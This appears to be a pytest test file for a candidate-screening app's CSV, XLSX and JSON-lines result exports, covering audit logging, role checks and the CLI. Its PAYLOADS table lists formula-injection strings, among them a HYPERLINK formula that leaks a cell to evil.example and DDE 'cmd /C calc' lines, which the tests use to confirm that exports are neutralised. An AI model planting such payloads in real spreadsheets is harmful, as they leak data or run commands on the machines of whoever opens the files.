@@ -1,0 +1,717 @@
+"""Exports of a screen's results: CSV, XLSX and JSON lines through HTTP and the CLI.
+
+Reviews and decisions are produced by the same domain functions the review pages
+call (claim, submit, the decision rule, adjudication). Spreadsheet files are parsed
+back with the standard library only, so the checks do not trust the writer.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+import json
+import re
+import tempfile
+import zipfile
+from dataclasses import dataclass
+from datetime import datetime, timedelta
+from pathlib import Path
+from xml.etree import ElementTree
+
+import pytest
+from click.testing import CliRunner, Result
+from litestar import Litestar
+from litestar.testing import AsyncTestClient
+from sqlalchemy import select, update
+from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
+
+from reviewers.rubric import rubric_from_dict
+from screen import attempts, decisions, reviews
+from screen.cli import main
+from screen.clock import FrozenClock
+from screen.exports import (
+    DANGEROUS_PREFIXES,
+    Cell,
+    export_stream,
+    neutralise,
+    plan_export,
+)
+from screen.models import AuditEvent, Invitation, Screen, User
+from screen.settings import Settings
+from tests.factories import make_candidate, make_screen, make_user
+from tests.staff import sign_in
+
+Client = AsyncTestClient[Litestar]
+DIMENSIONS = ("latency_vs_cost", "accuracy_vs_speed", "failure_modes", "first_week")
+EVIDENCE = "The answer says HNSW with ef_search 64 keeps p95 under 300 ms at 50 QPS."
+HEADER = [
+    "invitation_id",
+    "candidate_name",
+    "candidate_email",
+    "external_id",
+    "screen_id",
+    "screen_title",
+    "prompt_slug",
+    "prompt_version",
+    "state",
+    "invited_at",
+    "started_at",
+    "submitted_at",
+    "decided_at",
+    "minutes_used",
+    *(f"score_{key}" for key in DIMENSIONS),
+    "weighted_score",
+    "decision",
+    "adjudicated",
+    "reviewers",
+    "hours_to_decision",
+]
+# OWASP's examples, one per dangerous first character.
+PAYLOADS = {
+    "=": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
+    "+": "+1+cmd|' /C calc'!A0",
+    "-": "-2+3+cmd|' /C calc'!A0",
+    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t": "\t=1+1",
+    "\r": "\r=1+1",
+    "\n": "\n=1+1",
+}
+XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+
+# --- the neutralisation rule, exhaustively -------------------------------------------
+
+
+@pytest.mark.parametrize("prefix", DANGEROUS_PREFIXES)
+def test_a_string_starting_with_a_formula_character_gets_a_quote(prefix: str) -> None:
+    assert neutralise(prefix + "1+1") == "'" + prefix + "1+1"
+    assert neutralise(prefix) == "'" + prefix
+
+
+def test_the_dangerous_prefixes_are_owasps() -> None:
+    assert set(DANGEROUS_PREFIXES) == {"=", "+", "-", "@", "\t", "\r", "\n"}
+    assert set(PAYLOADS) == set(DANGEROUS_PREFIXES)
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "Ada Lovelace",
+        "Ann =Smith",
+        "a-b@example.com",
+        " =leading space is not a formula prefix",
+        "'=already quoted",
+        "",
+        -3.5,
+        -1,
+        0,
+        2.75,
+        True,
+        False,
+        None,
+    ],
+)
+def test_everything_else_is_left_alone(value: Cell) -> None:
+    result = neutralise(value)
+    assert result == value
+    assert type(result) is type(value)
+
+
+# --- arranging data ----------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class Arranged:
+    screen: Screen
+    ada: int  # decided pass by the rule
+    ben: int  # submitted at the grace edge, not reviewed
+    cy: int  # invited only
+
+
+async def submit_at(
+    db: AsyncSession,
+    settings: Settings,
+    screen: Screen,
+    invited: datetime,
+    started: datetime,
+    submitted: datetime,
+    *,
+    name: str,
+    external_id: str | None = None,
+) -> int:
+    candidate = await make_candidate(
+        db, settings, invited, screen=screen, name=name, external_id=external_id
+    )
+    invitation = candidate.invitation.invitation
+    attempt = candidate.invitation.attempt
+    await attempts.start(db, attempt, invitation, screen, started)
+    await attempts.submit(
+        db, attempt.id, attempt.revision, "An answer.", submitted, grace_seconds=60, max_bytes=65536
+    )
+    await db.commit()
+    return candidate.invitation_id
+
+
+async def review(
+    db: AsyncSession,
+    reviewer: User,
+    levels: int | dict[str, int],
+    recommendation: str,
+    now: datetime,
+) -> int:
+    """Claim the most urgent slot and submit a full review of it, as the scoring page does."""
+    review_id = await reviews.claim_next(db, reviewer, now)
+    assert review_id is not None
+    held = await reviews.review_for(db, review_id, reviewer)
+    rubric = rubric_from_dict(held.attempt.invitation.screen.prompt.rubric)
+    form = reviews.ScoreForm(
+        levels=levels if isinstance(levels, dict) else dict.fromkeys(DIMENSIONS, levels),
+        evidence=dict.fromkeys(DIMENSIONS, EVIDENCE),
+        recommendation=recommendation,
+    )
+    await reviews.submit(db, held, reviewer, rubric, form, now)
+    await decisions.decide_if_ready(db, held.attempt_id, now)
+    await db.commit()
+    return held.attempt_id
+
+
+async def reviewers(db: AsyncSession, clock: FrozenClock) -> tuple[User, User]:
+    first = await make_user(db, clock.now(), "reviewer", email="first@staff.example")
+    second = await make_user(db, clock.now(), "reviewer", email="second@staff.example")
+    return first, second
+
+
+async def arrange(db: AsyncSession, settings: Settings, clock: FrozenClock) -> Arranged:
+    t0 = clock.now()
+    screen = await make_screen(db, t0)  # "Backend engineer, autumn": 30 minutes, 2 reviews
+    first, second = await reviewers(db, clock)
+    ada = await submit_at(
+        db,
+        settings,
+        screen,
+        t0,
+        t0 + timedelta(hours=1),
+        t0 + timedelta(hours=1, minutes=25, seconds=30),
+        name="Ada Lovelace",
+        external_id="ATS-1",
+    )
+    await review(db, first, 3, "yes", t0 + timedelta(days=2))
+    await review(db, second, 4, "strong_yes", t0 + timedelta(days=2))
+    # Saved inside the grace period after the deadline: time used stops at the deadline.
+    ben = await submit_at(
+        db,
+        settings,
+        screen,
+        t0,
+        t0 + timedelta(hours=2),
+        t0 + timedelta(hours=2, minutes=30, seconds=40),
+        name="Ben Okafor",
+    )
+    cy = (await make_candidate(db, settings, t0, screen=screen, name="Cy Zhou")).invitation_id
+    return Arranged(screen, ada, ben, cy)
+
+
+async def signed_in_recruiter(client: Client, db: AsyncSession, clock: FrozenClock) -> User:
+    recruiter = await make_user(db, clock.now(), "recruiter", email="rita@staff.example")
+    await sign_in(client, recruiter.email)
+    return recruiter
+
+
+def parse_csv(body: bytes) -> list[list[str]]:
+    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark first, for Excel"
+    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
+
+
+_CELL_REF = re.compile(r"([A-Z]+)(\d+)")
+# How Excel stores control characters in cell text (ECMA-376 ST_Xstring): CR is _x000D_.
+_EXCEL_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")
+_NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+
+
+def _column_index(letters: str) -> int:
+    index = 0
+    for letter in letters:
+        index = index * 26 + ord(letter) - ord("A") + 1
+    return index - 1
+
+
+def _text(element: ElementTree.Element) -> str:
+    raw = "".join(t.text or "" for t in element.iter(f"{{{_NS['m']}}}t"))
+    return _EXCEL_ESCAPE.sub(lambda match: chr(int(match.group(1), 16)), raw)
+
+
+def parse_xlsx(body: bytes) -> tuple[list[list[Cell]], str]:
+    """The first sheet's rows as typed values, read with the standard library only."""
+    with zipfile.ZipFile(io.BytesIO(body)) as archive:
+        assert archive.testzip() is None
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+        names = archive.namelist()
+        shared: list[str] = []
+        if "xl/sharedStrings.xml" in names:
+            # Our own export under test, not input from outside.
+            strings = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))  # noqa: S314
+            shared = [_text(si) for si in strings.findall("m:si", _NS)]
+    rows: list[list[Cell]] = []
+    sheet = ElementTree.fromstring(sheet_xml)  # noqa: S314 - our own export, as above
+    for row in sheet.iter(f"{{{_NS['m']}}}row"):
+        values: list[Cell] = []
+        for cell in row.findall("m:c", _NS):
+            match = _CELL_REF.fullmatch(cell.attrib["r"])
+            assert match
+            column = _column_index(match.group(1))
+            values.extend([None] * (column - len(values)))
+            kind = cell.attrib.get("t", "n")
+            value: Cell
+            if kind == "inlineStr":
+                value = _text(cell)
+            elif kind == "s":
+                value = shared[int(cell.findtext("m:v", namespaces=_NS) or "0")]
+            elif kind == "b":
+                value = cell.findtext("m:v", namespaces=_NS) == "1"
+            else:
+                value = float(cell.findtext("m:v", namespaces=_NS) or "nan")
+            values.append(value)
+        rows.append(values)
+    return rows, sheet_xml
+
+
+def leftovers(folder: Path) -> list[Path]:
+    return list(folder.glob("screen-export-*"))
+
+
+def files_in(folder: Path) -> list[Path]:
+    return list(folder.iterdir())
+
+
+def by_id(rows: list[list[str]]) -> dict[str, dict[str, str]]:
+    header, *data = rows
+    return {row[0]: dict(zip(header, row, strict=True)) for row in data}
+
+
+async def audit_events(db: AsyncSession) -> list[AuditEvent]:
+    query = (
+        select(AuditEvent)
+        .where(AuditEvent.action.like("export.%"))
+        .order_by(AuditEvent.id)
+        .execution_options(populate_existing=True)
+    )
+    return list(await db.scalars(query))
+
+
+def export_path(screen_id: int, fmt: str | None = None) -> str:
+    query = f"?format={fmt}" if fmt else ""
+    return f"/recruiter/screens/{screen_id}/export{query}"
+
+
+# --- through HTTP ------------------------------------------------------------------------
+
+
+async def test_csv_has_the_header_and_a_row_per_candidate_with_utc_times_and_scores(
+    client: Client, db: AsyncSession, settings: Settings, clock: FrozenClock
+) -> None:
+    data = await arrange(db, settings, clock)
+    await signed_in_recruiter(client, db, clock)
+
+    response = await client.get(export_path(data.screen.id, "csv"))
+
+    assert response.status_code == 200
+    assert response.headers["content-type"] == "text/csv; charset=utf-8"
+    assert response.headers["content-disposition"] == (
+        f'attachment; filename="screen-{data.screen.id}-results.csv"'
+    )
+    assert response.headers["cache-control"] == "no-store"
+    rows = parse_csv(response.content)
+    assert rows[0] == HEADER
+    assert [row[0] for row in rows[1:]] == [str(data.ada), str(data.ben), str(data.cy)]
+    assert response.content.count(b"\r\n") == 4  # RFC 4180 line ends
+    assert by_id(rows)[str(data.ada)] == {
+        "invitation_id": str(data.ada),
+        "candidate_name": "Ada Lovelace",
+        "candidate_email": "ada@example.com",
+        "external_id": "ATS-1",
+        "screen_id": str(data.screen.id),
+        "screen_title": "Backend engineer, autumn",
+        "prompt_slug": "sample-decision",
+        "prompt_version": "1",
+        "state": "passed",
+        "invited_at": "2026-11-02T09:00:00Z",
+        "started_at": "2026-11-02T10:00:00Z",
+        "submitted_at": "2026-11-02T10:25:30Z",
+        "decided_at": "2026-11-04T09:00:00Z",
+        "minutes_used": "25.5",
+        "score_latency_vs_cost": "3.5",
+        "score_accuracy_vs_speed": "3.5",
+        "score_failure_modes": "3.5",
+        "score_first_week": "3.5",
+        "weighted_score": "3.5",
+        "decision": "pass",
+        "adjudicated": "false",
+        "reviewers": "2",
+        "hours_to_decision": "48.0",
+    }
+    ben = by_id(rows)[str(data.ben)]
+    assert ben["state"] == "auto_submitted"  # sent after the deadline, inside the grace
+    assert ben["submitted_at"] == "2026-11-02T11:30:40Z"
+    assert ben["minutes_used"] == "30.0"  # the 40 s past the deadline are not time used
+    assert ben["reviewers"] == "0"
+    assert ben["decision"] == ben["decided_at"] == ben["adjudicated"] == ben["weighted_score"] == ""
+    cy = by_id(rows)[str(data.cy)]
+    assert cy["state"] == "invited"
+    assert cy["started_at"] == cy["submitted_at"] == cy["minutes_used"] == ""
+    assert cy["external_id"] == ""
+
+
+async def test_json_lines_parse_and_keep_raw_typed_values(
+    client: Client, db: AsyncSession, settings: Settings, clock: FrozenClock
+) -> None:
+    data = await arrange(db, settings, clock)
+    await db.execute(
+        update(Invitation).where(Invitation.id == data.cy).values(candidate_name=PAYLOADS["="])
+    )
+    await db.commit()
+    await signed_in_recruiter(client, db, clock)
+
+    response = await client.get(export_path(data.screen.id, "json"))
+
+    assert response.status_code == 200
+    assert response.headers["content-type"] == "application/x-ndjson"
+    assert response.headers["content-disposition"] == (
+        f'attachment; filename="screen-{data.screen.id}-results.jsonl"'
+    )
+    lines = response.text.splitlines()
+    assert response.text.endswith("\n")
+    objects = [json.loads(line) for line in lines]
+    assert len(objects) == 3
+    assert all(list(obj) == HEADER for obj in objects)
+    ada, ben, cy = objects
+    assert ada["invitation_id"] == data.ada
+    assert ada["weighted_score"] == 3.5
+    assert ada["score_first_week"] == 3.5
+    assert ada["adjudicated"] is False
+    assert ada["reviewers"] == 2
+    assert ada["hours_to_decision"] == 48.0
+    assert ada["decided_at"] == "2026-11-04T09:00:00Z"
+    assert ben["decision"] is None and ben["adjudicated"] is None and ben["reviewers"] == 0
+    assert cy["candidate_name"] == PAYLOADS["="]  # data, not a spreadsheet: raw
+
+
+async def test_xlsx_opens_with_typed_cells_and_nothing_left_on_disk(
+    client: Client,
+    db: AsyncSession,
+    settings: Settings,
+    clock: FrozenClock,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
+    data = await arrange(db, settings, clock)
+    await signed_in_recruiter(client, db, clock)
+
+    response = await client.get(export_path(data.screen.id, "xlsx"))
+
+    assert response.status_code == 200
+    assert response.headers["content-type"] == XLSX_MEDIA_TYPE
+    assert response.headers["content-disposition"] == (
+        f'attachment; filename="screen-{data.screen.id}-results.xlsx"'
+    )
+    rows, sheet_xml = parse_xlsx(response.content)
+    assert rows[0] == HEADER
+    ada = dict(zip(HEADER, rows[1], strict=False))
+    assert ada["candidate_name"] == "Ada Lovelace"
+    assert ada["invitation_id"] == float(data.ada)  # numbers are numbers
+    assert ada["weighted_score"] == 3.5
+    assert ada["adjudicated"] is False
+    assert ada["invited_at"] == "2026-11-02T09:00:00Z"
+    assert ada["decision"] == "pass"
+    ben = dict(zip(HEADER, rows[2], strict=False))
+    assert ben.get("decision") is None  # empty cells stay empty
+    assert len(rows) == 4
+    assert "<f>" not in sheet_xml  # no formula anywhere
+    assert leftovers(tmp_path) == []
+
+
+async def test_formula_payloads_are_neutralised_in_csv_and_xlsx_for_every_prefix(
+    client: Client, db: AsyncSession, settings: Settings, clock: FrozenClock
+) -> None:
+    screen = await make_screen(db, clock.now())
+    ids = {}
+    for number, (prefix, payload) in enumerate(PAYLOADS.items()):
+        candidate = await make_candidate(
+            db, settings, clock.now(), screen=screen, name=f"Payload{number} Person"
+        )
+        # Invitations normalise whitespace in names; a row that arrived by another
+        # path (an import, an ATS) could still hold anything, so store it as-is.
+        await db.execute(
+            update(Invitation)
+            .where(Invitation.id == candidate.invitation_id)
+            .values(candidate_name=payload, external_id=prefix + "42")
+        )
+        ids[str(candidate.invitation_id)] = prefix
+    await db.commit()
+    await signed_in_recruiter(client, db, clock)
+
+    csv_response = await client.get(export_path(screen.id, "csv"))
+    xlsx_response = await client.get(export_path(screen.id, "xlsx"))
+
+    csv_rows = by_id(parse_csv(csv_response.content))
+    for invitation_id, prefix in ids.items():
+        assert csv_rows[invitation_id]["candidate_name"] == "'" + PAYLOADS[prefix], repr(prefix)
+        assert csv_rows[invitation_id]["external_id"] == "'" + prefix + "42", repr(prefix)
+    xlsx_rows, sheet_xml = parse_xlsx(xlsx_response.content)
+    header = xlsx_rows[0]
+    assert "<f>" not in sheet_xml
+    seen = set()
+    for row in xlsx_rows[1:]:
+        cells = dict(zip(header, row, strict=False))
+        prefix = ids[str(int(float(str(cells["invitation_id"]))))]
+        assert cells["candidate_name"] == "'" + PAYLOADS[prefix], repr(prefix)
+        assert cells["external_id"] == "'" + prefix + "42", repr(prefix)
+        seen.add(prefix)
+    assert seen == set(DANGEROUS_PREFIXES)
+
+
+async def test_an_export_is_an_audit_event_with_the_row_count(
+    client: Client, db: AsyncSession, settings: Settings, clock: FrozenClock
+) -> None:
+    data = await arrange(db, settings, clock)
+    recruiter = await signed_in_recruiter(client, db, clock)
+
+    await client.get(export_path(data.screen.id, "csv"))
+    await client.get(export_path(data.screen.id, "xlsx"))
+
+    events = await audit_events(db)
+    assert [(e.action, e.subject_type, e.subject_id) for e in events] == [
+        ("export.csv", "screen", str(data.screen.id)),
+        ("export.xlsx", "screen", str(data.screen.id)),
+    ]
+    assert events[0].actor == f"user:{recruiter.id}:{recruiter.email}"
+    assert events[0].after == {"rows": 3, "format": "csv"}
+    assert events[0].at == clock.now()
+
+
+async def test_csv_is_the_default_format(
+    client: Client, db: AsyncSession, settings: Settings, clock: FrozenClock
+) -> None:
+    screen = await make_screen(db, clock.now())
+    await signed_in_recruiter(client, db, clock)
+
+    response = await client.get(export_path(screen.id))
+
+    assert response.status_code == 200
+    assert parse_csv(response.content) == [HEADER]
+
+
+@pytest.mark.parametrize("role", ["reviewer", "lead"])
+async def test_reviewers_and_leads_get_403_and_nothing_is_logged(
+    client: Client, db: AsyncSession, clock: FrozenClock, role: str
+) -> None:
+    screen = await make_screen(db, clock.now())
+    user = await make_user(db, clock.now(), role)
+    await sign_in(client, user.email)
+
+    response = await client.get(export_path(screen.id, "csv"))
+
+    assert response.status_code == 403
+    assert "Ada" not in response.text
+    assert await audit_events(db) == []
+
+
+@pytest.mark.parametrize("role", ["recruiter", "admin"])
+async def test_recruiters_and_admins_may_export(
+    client: Client, db: AsyncSession, clock: FrozenClock, role: str
+) -> None:
+    screen = await make_screen(db, clock.now())
+    user = await make_user(db, clock.now(), role)
+    await sign_in(client, user.email)
+
+    response = await client.get(export_path(screen.id, "json"))
+
+    assert response.status_code == 200
+    assert [e.actor for e in await audit_events(db)] == [f"user:{user.id}:{user.email}"]
+
+
+async def test_without_a_session_an_export_link_goes_to_sign_in(
+    client: Client, db: AsyncSession, clock: FrozenClock
+) -> None:
+    screen = await make_screen(db, clock.now())
+
+    response = await client.get(export_path(screen.id, "csv"), follow_redirects=False)
+
+    assert response.status_code == 303
+    assert response.headers["location"].startswith("/signin?next=")
+    assert await audit_events(db) == []
+
+
+async def test_an_unknown_format_is_400_and_an_unknown_screen_404(
+    client: Client, db: AsyncSession, clock: FrozenClock
+) -> None:
+    screen = await make_screen(db, clock.now())
+    await signed_in_recruiter(client, db, clock)
+
+    bad_format = await client.get(
+        export_path(screen.id, "pdf"), headers={"accept": "application/json"}
+    )
+    no_screen = await client.get(
+        export_path(screen.id + 1000, "csv"), headers={"accept": "application/json"}
+    )
+
+    assert bad_format.status_code == 400
+    assert bad_format.json() == {
+        "error": "invalid_input",
+        "message": "Unknown export format 'pdf'; choose one of csv, xlsx, json.",
+    }
+    assert no_screen.status_code == 404
+    assert no_screen.json()["error"] == "not_found"
+    assert await audit_events(db) == []
+
+
+async def test_an_adjudicated_decision_is_dated_when_the_lead_decided(
+    client: Client, db: AsyncSession, settings: Settings, clock: FrozenClock
+) -> None:
+    t0 = clock.now()
+    screen = await make_screen(db, t0)
+    first, second = await reviewers(db, clock)
+    lead = await make_user(db, t0, "lead", email="lead@staff.example")
+    invitation_id = await submit_at(
+        db, settings, screen, t0, t0, t0 + timedelta(minutes=20), name="Dee Adjudicated"
+    )
+    await review(db, first, 1, "no", t0 + timedelta(days=1))
+    attempt_id = await review(db, second, 3, "yes", t0 + timedelta(days=1))
+    await signed_in_recruiter(client, db, clock)
+
+    waiting = by_id(parse_csv((await client.get(export_path(screen.id))).content))
+    await decisions.adjudicate(
+        db, attempt_id, lead, "pass", "Strong reasoning on cost.", t0 + timedelta(days=3)
+    )
+    await db.commit()
+    decided = by_id(parse_csv((await client.get(export_path(screen.id))).content))
+
+    before, after = waiting[str(invitation_id)], decided[str(invitation_id)]
+    assert (before["state"], before["decision"]) == ("needs_adjudication", "needs_adjudication")
+    assert before["decided_at"] == before["hours_to_decision"] == ""
+    assert before["adjudicated"] == "false"
+    assert before["score_latency_vs_cost"] == "2.0"
+    assert (after["state"], after["decision"], after["adjudicated"]) == ("passed", "pass", "true")
+    assert after["decided_at"] == "2026-11-05T09:00:00Z"
+    assert after["hours_to_decision"] == "72.0"
+
+
+# --- the row source ----------------------------------------------------------------------
+
+
+async def test_rows_are_read_page_by_page_and_bounded_when_the_export_starts(
+    db: AsyncSession,
+    sessionmaker: async_sessionmaker[AsyncSession],
+    settings: Settings,
+    clock: FrozenClock,
+) -> None:
+    screen = await make_screen(db, clock.now())
+    other = await make_screen(db, clock.now(), title="Another screen")
+    expected = []
+    for number in range(5):
+        candidate = await make_candidate(
+            db, settings, clock.now(), screen=screen, name=f"Cand{number} Person"
+        )
+        await make_candidate(db, settings, clock.now(), screen=other, name=f"Other{number} Person")
+        expected.append(str(candidate.invitation_id))
+    plan = await plan_export(db, screen.id)
+    await db.commit()
+    # Invited after the export started: not in this file, and not in its row count.
+    await make_candidate(db, settings, clock.now(), screen=screen, name="Late Comer")
+
+    chunks = [chunk async for chunk in export_stream(sessionmaker, plan, "csv", batch_size=2)]
+
+    assert plan.rows == 5
+    assert len(chunks) == 4  # the header, then pages of 2, 2 and 1 rows
+    rows = parse_csv(b"".join(chunks))
+    assert [row[0] for row in rows[1:]] == expected
+
+
+async def test_an_abandoned_xlsx_download_removes_its_temporary_files(
+    db: AsyncSession,
+    sessionmaker: async_sessionmaker[AsyncSession],
+    settings: Settings,
+    clock: FrozenClock,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
+    screen = await make_screen(db, clock.now())
+    for number in range(3):
+        await make_candidate(db, settings, clock.now(), screen=screen, name=f"Cand{number} Person")
+    plan = await plan_export(db, screen.id)
+    await db.commit()
+
+    stream = export_stream(sessionmaker, plan, "xlsx", batch_size=1)
+    first = await anext(stream)
+    during = leftovers(tmp_path)
+    await stream.aclose()
+
+    assert first.startswith(b"PK")
+    assert len(during) == 1
+    assert leftovers(tmp_path) == []
+
+
+# --- the CLI -----------------------------------------------------------------------------
+
+
+async def run_cli(*args: str) -> Result:
+    # The CLI runs its own event loop, so it cannot run on this test's loop.
+    return await asyncio.to_thread(CliRunner().invoke, main, list(args))
+
+
+async def test_the_cli_writes_a_file_and_logs_the_export(
+    db: AsyncSession,
+    settings: Settings,
+    clock: FrozenClock,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    data = await arrange(db, settings, clock)
+    monkeypatch.setenv("SCREEN_DATABASE_URL", settings.database_url)
+    target = tmp_path / "results.xlsx"
+
+    written = await run_cli(
+        "export", "--screen", str(data.screen.id), "--format", "xlsx", "--output", str(target)
+    )
+    to_stdout = await run_cli("export", "--screen", str(data.screen.id), "--format", "csv")
+
+    assert written.exit_code == 0, written.output
+    assert f"Exported 3 row(s) of screen {data.screen.id} as xlsx to {target}." in written.output
+    rows, _ = parse_xlsx(target.read_bytes())
+    assert rows[0] == HEADER
+    assert [row[1] for row in rows[1:]] == ["Ada Lovelace", "Ben Okafor", "Cy Zhou"]
+    assert files_in(tmp_path) == [target]  # no partial file left beside it
+    assert to_stdout.exit_code == 0, to_stdout.output
+    assert parse_csv(to_stdout.stdout_bytes)[0] == HEADER
+    assert len(parse_csv(to_stdout.stdout_bytes)) == 4
+    events = await audit_events(db)
+    assert [(e.actor, e.action, e.after) for e in events] == [
+        ("cli", "export.xlsx", {"rows": 3, "format": "xlsx"}),
+        ("cli", "export.csv", {"rows": 3, "format": "csv"}),
+    ]
+
+
+async def test_the_cli_refuses_clearly_and_leaves_no_file(
+    db: AsyncSession,
+    settings: Settings,
+    clock: FrozenClock,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    screen = await make_screen(db, clock.now())
+    await db.commit()
+    monkeypatch.setenv("SCREEN_DATABASE_URL", settings.database_url)
+
+    no_output = await run_cli("export", "--screen", str(screen.id), "--format", "xlsx")
+    no_screen = await run_cli(
+        "export", "--screen", "9999", "--format", "csv", "--output", str(tmp_path / "x.csv")
+    )
+
+    assert no_output.exit_code == 2
+    assert "XLSX is a binary file: give --output PATH." in no_output.output
+    assert no_screen.exit_code == 1
+    assert "No screen with id 9999." in no_screen.output
+    assert files_in(tmp_path) == []
+    assert await audit_events(db) == []
